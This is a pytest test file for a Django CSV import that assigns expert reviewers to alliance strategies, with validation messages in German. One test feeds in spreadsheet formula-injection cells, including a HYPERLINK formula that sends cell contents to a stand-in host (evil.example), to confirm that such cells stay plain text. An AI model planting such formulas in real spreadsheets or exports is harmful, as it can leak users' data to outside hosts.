import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext

from alliances.models import AlliancePartner
from portal.models import Role, User
from reviews import services
from reviews.assignment_import import apply_assignment_import, parse_assignment_csv
from reviews.models import Assignment
from reviews.validators import MAX_ASSIGNMENT_ROWS as MAX_ROWS
from tests.factories import (
    AllianceFactory,
    ExpertFactory,
    ExpertProfileFactory,
    StrategyFactory,
    UserFactory,
    declared_conflict,
    submitted_strategy,
)

pytestmark = pytest.mark.django_db

HEADER = "alliance,expert,override_reason"


def csv_bytes(*lines, encoding="utf-8"):
    return ("\n".join(lines) + "\n").encode(encoding)


def expert(email, **profile):
    return ExpertProfileFactory(user=ExpertFactory(email=email), **profile).user


@pytest.fixture
def setup(cycle, alliance, other_alliance, programme_office):
    """Two submitted strategies, a draft one, three experts (one affiliated with a partner of gesunde-lausitz)."""
    lausitz, _ = submitted_strategy(cycle, alliance)
    diana, _ = submitted_strategy(cycle, other_alliance)
    StrategyFactory(cycle=cycle, alliance=AllianceFactory(slug="entwurf", name="Entwurf"))
    AlliancePartner.objects.create(alliance=alliance, name="Hochschule Zittau/Görlitz", email_domain="hszg.de")
    return {
        "lausitz": lausitz,
        "diana": diana,
        "anna": expert("anna@uni-a.example"),
        "ben": expert("ben@uni-b.example"),
        "carla": expert("carla@uni-c.example", affiliation="Hochschule Zittau/Görlitz"),
        "office": programme_office,
    }


def errors_of(cycle, data):
    with pytest.raises(ValidationError) as raised:
        parse_assignment_csv(cycle=cycle, csv_text=data)
    return raised.value.messages


def test_good_file_previews_then_applies(cycle, setup, django_capture_on_commit_callbacks):
    data = csv_bytes(
        HEADER,
        "gesunde-lausitz,anna@uni-a.example,",
        "diana,Ben@Uni-B.example,",
        'gesunde-lausitz,carla@uni-c.example,"Seit 2019 nicht mehr an der Hochschule, Partnerschaft ruht"',
    )
    preview = parse_assignment_csv(cycle=cycle, csv_text=data)
    assert [(row.line, row.strategy, row.expert) for row in preview.rows] == [
        (2, setup["lausitz"], setup["anna"]),
        (3, setup["diana"], setup["ben"]),
        (4, setup["lausitz"], setup["carla"]),
    ]
    assert preview.rows[0].flags == () and preview.rows[0].override_reason == ""
    assert preview.rows[2].flags == ("Organisation „Hochschule Zittau/Görlitz“ ist Bündnispartner.",)
    assert Assignment.objects.count() == 0  # preview only

    with django_capture_on_commit_callbacks(execute=True):
        created = apply_assignment_import(preview=preview, user=setup["office"])
    assert len(created) == 3 == Assignment.objects.count()
    flagged = Assignment.objects.get(expert=setup["carla"])
    assert flagged.override_reason == "Seit 2019 nicht mehr an der Hochschule, Partnerschaft ruht"
    assert flagged.conflict_flags == list(preview.rows[2].flags)
    sent = sorted(message.to[0] for message in mail.outbox if "Neue Begutachtung" in message.subject)
    assert sent == ["anna@uni-a.example", "ben@uni-b.example", "carla@uni-c.example"]


def test_bom_semicolons_blank_lines_and_missing_optional_column_are_fine(cycle, setup):
    data = "\ufeffalliance;expert\r\n\r\ngesunde-lausitz;anna@uni-a.example\r\ndiana ; ben@uni-b.example \r\n"
    preview = parse_assignment_csv(cycle=cycle, csv_text=data.encode("utf-8"))
    assert [(row.line, row.expert) for row in preview.rows] == [(3, setup["anna"]), (4, setup["ben"])]
    assert parse_assignment_csv(cycle=cycle, csv_text=data).rows == preview.rows


def assign(setup, strategy, who):
    services.assign_expert(strategy=setup[strategy], expert=setup[who], user=setup["office"])


def cap_one(setup):
    policy = services.policy_for(setup["lausitz"].cycle)
    policy.load_cap = 1
    policy.save()


BAD_LINES = [
    ("unknown alliance", "gibt-es-nicht,ben@uni-b.example,", None, "Unbekanntes Bündnis „gibt-es-nicht“."),
    (
        "not submitted",
        "entwurf,ben@uni-b.example,",
        None,
        "Die Strategie von Entwurf ist in dieser Runde nicht eingereicht.",
    ),
    ("unknown e-mail", "diana,niemand@example.org,", None, "„niemand@example.org“ ist nicht als Gutachter/in"),
    ("not an expert", "diana,pt@ptj.example,", None, "„pt@ptj.example“ ist nicht als Gutachter/in registriert."),
    ("duplicate pair", "gesunde-lausitz,ANNA@uni-a.example,", None, "Dieselbe Zuweisung steht bereits in Zeile 2."),
    (
        "already assigned",
        "diana,ben@uni-b.example,",
        lambda s: assign(s, "diana", "ben"),
        "ist der Strategie von DIANA bereits zugewiesen.",
    ),
    ("flag without reason", "gesunde-lausitz,carla@uni-c.example,  ", None, "Hinweis auf Befangenheit (Organisation"),
    ("over the load cap", "diana,anna@uni-a.example,", cap_one, "mehr als die Höchstzahl von 1 Strategien."),
    ("too many fields", "diana,ben@uni-b.example,,zu viel", None, "Erwartet werden 3 Felder, die Zeile hat 4."),
    ("too few fields", "diana", None, "Erwartet werden 3 Felder, die Zeile hat 1."),
]


@pytest.mark.parametrize(
    ("bad_line", "prepare", "message"), [case[1:] for case in BAD_LINES], ids=[case[0] for case in BAD_LINES]
)
def test_each_bad_line_is_named_and_nothing_is_applied(cycle, setup, bad_line, prepare, message):
    if prepare:
        prepare(setup)
    before = Assignment.objects.count()
    messages = errors_of(
        cycle, csv_bytes(HEADER, "gesunde-lausitz,anna@uni-a.example,", bad_line, "gesunde-lausitz,ben@uni-b.example,")
    )
    assert len(messages) == 1
    assert messages[0].startswith("Zeile 3: ")
    assert message in messages[0]
    assert Assignment.objects.count() == before


def test_a_conflicted_pair_is_refused(cycle, setup):
    assignment = services.assign_expert(strategy=setup["diana"], expert=setup["ben"], user=setup["office"])
    declared_conflict(assignment, explanation="Verwandtschaft")
    assert errors_of(cycle, csv_bytes(HEADER, "diana,ben@uni-b.example,")) == [
        f"Zeile 2: {setup['ben']} hat sich für DIANA für befangen erklärt."
    ]


def test_every_bad_line_gets_its_own_message(cycle, setup):
    messages = errors_of(
        cycle,
        csv_bytes(
            HEADER,
            "gesunde-lausitz,anna@uni-a.example,",
            '"gesunde-lausitz","carla@uni-c.example","',  # a quoted reason running over two lines
            'ok"',
            "nirgendwo,anna@uni-a.example,",
            "diana,ben@uni-b.example,",
            "diana,ben@uni-b.example,",
        ),
    )
    assert [message.split(":")[0] for message in messages] == ["Zeile 5", "Zeile 7"]


def test_a_cap_counts_the_files_own_rows(cycle, setup):
    cap_one(setup)
    messages = errors_of(
        cycle,
        csv_bytes(
            HEADER, "gesunde-lausitz,anna@uni-a.example,", "diana,ben@uni-b.example,", "diana,anna@uni-a.example,"
        ),
    )
    assert messages == [f"Zeile 4: {setup['anna']} hätte damit mehr als die Höchstzahl von 1 Strategien."]


@pytest.mark.parametrize("header", ["bündnis,expert", "alliance,expert,expert", "alliance,expert,note", ""])
def test_wrong_columns_are_named(cycle, setup, header):
    lines = [header, "gesunde-lausitz,anna@uni-a.example"] if header else ["", "  "]
    messages = errors_of(cycle, csv_bytes(*lines))
    if header:
        assert messages == [
            "Zeile 1: Erwartet werden die Spalten alliance, expert, override_reason (override_reason ist optional)."
        ]
    else:
        assert messages == ["Die Datei ist leer."]


def test_header_only_is_refused(cycle, setup):
    assert errors_of(cycle, csv_bytes(HEADER)) == ["Die Datei enthält keine Zuweisungen."]


def test_formula_like_cells_are_plain_text(cycle, setup):
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'
    quoted = '"' + hyperlink.replace('"', '""') + '"'
    messages = errors_of(
        cycle,
        csv_bytes(
            HEADER,
            f"diana,{quoted},",
            "+diana,ben@uni-b.example,",
            "@SUM(1+1),ben@uni-b.example,",
            "-diana,ben@uni-b.example,",
        ),
    )
    assert messages == [
        f"Zeile 2: „{hyperlink}“ ist nicht als Gutachter/in registriert.",
        "Zeile 3: Unbekanntes Bündnis „+diana“.",
        "Zeile 4: Unbekanntes Bündnis „@SUM(1+1)“.",
        "Zeile 5: Unbekanntes Bündnis „-diana“.",
    ]
    # A formula-like justification is kept as the text it is.
    preview = parse_assignment_csv(cycle=cycle, csv_text=csv_bytes(HEADER, "gesunde-lausitz,carla@uni-c.example,=1+1"))
    apply_assignment_import(preview=preview, user=setup["office"])
    assert Assignment.objects.get().override_reason == "=1+1"


def test_long_cell_text_is_shortened_in_messages(cycle, setup):
    [message] = errors_of(cycle, csv_bytes(HEADER, "x" * 500 + ",ben@uni-b.example,"))
    assert len(message) < 140 and message.endswith("…“.")


def test_oversize_file_is_refused(cycle, setup):
    row = "gesunde-lausitz,anna@uni-a.example," + "x" * 1000
    data = csv_bytes(HEADER, *[row] * 1100)
    assert len(data) > 1024 * 1024
    assert errors_of(cycle, data) == ["Die Datei ist größer als 1 MB. Bitte teilen Sie sie auf."]
    assert errors_of(cycle, data.decode()) == ["Die Datei ist größer als 1 MB. Bitte teilen Sie sie auf."]


def test_too_many_rows_are_refused(cycle, setup):
    data = csv_bytes(HEADER, *["diana,ben@uni-b.example,"] * (MAX_ROWS + 1))
    assert errors_of(cycle, data) == ["Die Datei hat mehr als 2000 Zeilen. Bitte teilen Sie sie auf."]


@pytest.mark.parametrize("encoding", ["latin-1", "utf-16", "utf-16-le"])
def test_other_encodings_are_refused(cycle, setup, encoding):
    data = csv_bytes(HEADER, "gesunde-lausitz,jörg@uni-a.example,Begründung", encoding=encoding)
    assert errors_of(cycle, data) == [
        "Die Datei ist nicht UTF-8-kodiert. Bitte speichern Sie sie als „CSV UTF-8“ und laden Sie sie erneut hoch."
    ]


def test_apply_is_all_or_nothing(cycle, setup):
    preview = parse_assignment_csv(
        cycle=cycle,
        csv_text=csv_bytes(
            HEADER, "gesunde-lausitz,anna@uni-a.example,", "diana,anna@uni-a.example,", "diana,ben@uni-b.example,"
        ),
    )
    # Someone assigns the last pair by hand between preview and apply.
    assign(setup, "diana", "ben")
    with pytest.raises(services.AssignmentRefused, match="bereits zugewiesen"):
        apply_assignment_import(preview=preview, user=setup["office"])
    assert list(Assignment.objects.values_list("expert__email", flat=True)) == ["ben@uni-b.example"]


def test_apply_rereads_the_experts(cycle, setup):
    preview = parse_assignment_csv(
        cycle=cycle, csv_text=csv_bytes(HEADER, "gesunde-lausitz,anna@uni-a.example,", "diana,ben@uni-b.example,")
    )
    User.objects.filter(pk=setup["ben"].pk).update(role=Role.ALLIANCE_MANAGER)
    with pytest.raises(services.AssignmentRefused, match="nicht als Gutachter/in registriert"):
        apply_assignment_import(preview=preview, user=setup["office"])
    assert not Assignment.objects.exists()


@pytest.mark.parametrize("extra", [0, 6])
def test_parsing_runs_a_fixed_number_of_queries(cycle, setup, extra):
    lines = [HEADER, "gesunde-lausitz,anna@uni-a.example,", "diana,ben@uni-b.example,"]
    for number in range(extra):
        strategy, _ = submitted_strategy(cycle, AllianceFactory())
        AlliancePartner.objects.create(alliance=strategy.alliance, name=f"Partner {number}")
        person = UserFactory(role=Role.EXPERT) if number % 2 else expert(f"e{number}@example.org")
        lines.append(f"{strategy.alliance.slug},{person.email},")
    with CaptureQueriesContext(connection) as queries:
        preview = parse_assignment_csv(cycle=cycle, csv_text=csv_bytes(*lines))
    assert len(preview.rows) == 2 + extra
    # alliances, strategies, partners, states, users with profiles, assignments, policy
    assert len(queries) == 7, [query["sql"] for query in queries]
